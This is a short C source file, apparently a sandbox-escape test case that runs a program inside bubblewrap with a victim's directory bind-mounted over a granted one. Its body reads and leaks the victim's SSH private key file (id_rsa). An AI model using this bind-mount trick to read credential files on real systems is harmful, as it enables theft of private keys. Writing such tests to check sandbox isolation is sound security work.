/* SPDX-License-Identifier: Apache-2.0 */
/* Inside bubblewrap, with the victim’s directory bound over a granted one. */
#define ATTACK "bubblewrap-over"
#include "attack.h"
#include "bubblewrap.h"

int main(int count, char **argument)
{
	if (is_inside(count, argument))
		open_and_leak(text("%s/id_rsa", argument[2]));
	GO_INSIDE(argument, "--bind", argument[1], argument[2]);
}
